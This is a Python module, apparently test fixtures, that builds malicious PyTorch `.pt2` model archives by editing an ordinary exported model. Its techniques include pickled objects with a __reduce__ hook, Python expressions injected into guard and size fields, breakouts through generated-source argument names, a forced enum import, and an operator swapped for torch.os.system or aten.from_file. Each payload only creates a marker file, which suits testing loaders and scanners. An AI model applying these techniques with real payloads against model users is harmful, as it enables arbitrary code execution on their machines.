"""Real malicious `.pt2` files, each made from an ordinary one by a change of its entries.

Those of `LIVE` make plain torch create the file `marker-NAME` in the working directory when it
loads or runs them.
"""

import io
import json
import pickle
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import torch
from torch import nn
from torch.export import Dim

Entries = dict[str, bytes]
Change = Callable[[Entries, str], None]

PROGRAM = "models/model.json"
WEIGHTS = "data/weights/model_weights_config.json"
CONSTANTS = "data/constants/model_constants_config.json"
SAMPLE_INPUTS = "data/sample_inputs/model.pt"


class Victim(nn.Module):
    """Has a parameter, a constant and a size expression to abuse."""

    def __init__(self) -> None:
        super().__init__()
        self.linear = nn.Linear(3, 3)
        self.shift = torch.ones(1)

    def forward(self, features: torch.Tensor) -> torch.Tensor:
        return torch.cat([self.linear(features), features + self.shift]).reshape(2 * features.shape[0], 3)


def victim() -> torch.export.ExportedProgram:
    module = Victim().eval()
    return torch.export.export(module, (torch.randn(2, 3),), dynamic_shapes=({0: Dim.DYNAMIC},), strict=False)


def entries_of(path: Path) -> Entries:
    """Read a file's entries by their names below the root folder."""
    with zipfile.ZipFile(path) as file:
        return {name.partition("/")[2]: file.read(name) for name in file.namelist()}


def written(path: Path, entries: Entries) -> Path:
    """Write entries as torch does: uncompressed, below one root folder."""
    with zipfile.ZipFile(path, "w") as file:
        for name, content in entries.items():
            file.writestr(f"model/{name}", content)
    return path


def edited(entries: Entries, name: str, edit: Callable[[Any], None]) -> None:
    """Change an entry of JSON."""
    data = json.loads(entries[name])
    edit(data)
    entries[name] = json.dumps(data).encode()


def first_parameter(lists: Any) -> Any:
    return lists["config"]["linear.weight"]


class Touch:
    """Creates a file in the working directory when it is unpickled."""

    def __init__(self, marker: str) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple[Any, tuple[Path]]:
        return Path.touch, (Path(self.marker),)


def touching(marker: str) -> str:
    """Return an expression that creates a file in the working directory."""
    return f"__import__('pathlib').Path('{marker}').touch()"


def pickled(marker: str) -> bytes:
    buffer = io.BytesIO()
    torch.save(Touch(marker), buffer)
    return buffer.getvalue()


def pickled_sample_inputs(entries: Entries, marker: str) -> None:
    entries[SAMPLE_INPUTS] = pickled(marker)


def pickled_weight(entries: Entries, marker: str) -> None:
    edited(entries, WEIGHTS, lambda lists: first_parameter(lists).update(use_pickle=True))
    entries["data/weights/" + first_parameter(json.loads(entries[WEIGHTS]))["path_name"]] = pickled(marker)


def pickled_constant(entries: Entries, marker: str) -> None:
    edited(entries, CONSTANTS, lambda lists: lists["config"]["shift"].update(use_pickle=True))
    entries["data/constants/tensor_0"] = pickled(marker)


def pickled_object(entries: Entries, marker: str) -> None:
    edited(entries, CONSTANTS, lambda lists: lists["config"]["shift"].update(path_name="opaque_obj_0"))
    entries["data/constants/opaque_obj_0"] = pickle.dumps(Touch(marker))
    edited(entries, CONSTANTS, lambda lists: lists["config"]["shift"].update(use_pickle=True, tensor_meta=None))


def weights_in_the_old_format(entries: Entries, marker: str) -> None:
    entries["data/weights/model.pt"] = pickled(marker)


def code_in_guards(entries: Entries, marker: str) -> None:
    edited(entries, PROGRAM, lambda program: program.update(guards_code=[f"{touching(marker)} is None"]))


def code_in_a_size(entries: Entries, marker: str) -> None:
    def edit(program: Any) -> None:
        sizes = program["graph_module"]["graph"]["sym_int_values"]
        next(iter(sizes.values()))["as_expr"]["expr_str"] = f"{touching(marker)} or 4"

    edited(entries, PROGRAM, edit)


def code_in_a_tensor_size(entries: Entries, marker: str) -> None:
    def edit(program: Any) -> None:
        features = program["graph_module"]["graph"]["tensor_values"]["features"]
        features["sizes"][0]["as_expr"]["expr_str"] = f"[{touching(marker)}, Symbol('s0')][1]"

    edited(entries, PROGRAM, edit)


def code_in_an_argument_name(entries: Entries, marker: str) -> None:
    """Break out of the source code that torch generates for `.module()`; the name stands in it twice."""
    name = f"features): return None\n{touching(marker)}\ndef forward(self, features):\n    unused = str((['''"

    def edit(program: Any) -> None:
        program["graph_module"]["module_call_graph"][0]["signature"]["forward_arg_names"] = [name]

    edited(entries, PROGRAM, edit)


def code_in_an_input_name(entries: Entries, marker: str) -> None:
    """Break out of the source code that torch generates for the graph; the name stands in it twice."""
    name = f"features): return None\n{touching(marker)}\ndef forward(self, features):\n    unused = '''"
    entries[PROGRAM] = entries[PROGRAM].replace(b'"features"', json.dumps(name).encode())


def code_in_a_container(entries: Entries, marker: str) -> None:
    """Name an enum of the module `module_MARKER`, which plain torch imports from the working directory."""

    def edit(program: Any) -> None:
        signature = program["graph_module"]["module_call_graph"][0]["signature"]
        context = json.dumps([{"__enum__": True, "fqn": f"module_{marker.replace('-', '_')}:Key", "name": "key"}])
        leaf = {"type": None, "context": None, "children_spec": []}
        signature["out_spec"] = json.dumps([1, {"type": "builtins.dict", "context": context, "children_spec": [leaf]}])

    edited(entries, PROGRAM, edit)


def operator_that_reads_a_file(entries: Entries, marker: str) -> None:
    """Make the linear operator map a file: `from_file` with `shared` creates it."""

    def edit(program: Any) -> None:
        nodes = program["graph_module"]["graph"]["nodes"]
        node = next(node for node in nodes if node["target"] == "torch.ops.aten.linear.default")
        node["target"] = "torch.ops.aten.from_file.default"
        node["inputs"] = [
            {"name": "filename", "arg": {"as_string": marker}, "kind": 1},
            {"name": "shared", "arg": {"as_bool": True}, "kind": 1},
            {"name": "size", "arg": {"as_int": 3}, "kind": 1},
        ]

    edited(entries, PROGRAM, edit)


def foreign_operator(entries: Entries, marker: str) -> None:
    def edit(program: Any) -> None:
        nodes = program["graph_module"]["graph"]["nodes"]
        node = next(node for node in nodes if node["target"] == "torch.ops.aten.linear.default")
        node["target"] = "torch.os.system"
        node["inputs"] = [{"name": "command", "arg": {"as_string": f"touch {marker}"}, "kind": 1}]

    edited(entries, PROGRAM, edit)


LIVE: dict[str, Change] = {
    change.__name__.replace("_", "-"): change
    for change in (
        pickled_sample_inputs,
        pickled_weight,
        pickled_constant,
        pickled_object,
        weights_in_the_old_format,
        code_in_guards,
        code_in_a_size,
        code_in_a_tensor_size,
        code_in_an_argument_name,
        code_in_an_input_name,
        code_in_a_container,
        operator_that_reads_a_file,
    )
}
"""Changes that make plain torch run code or touch files."""
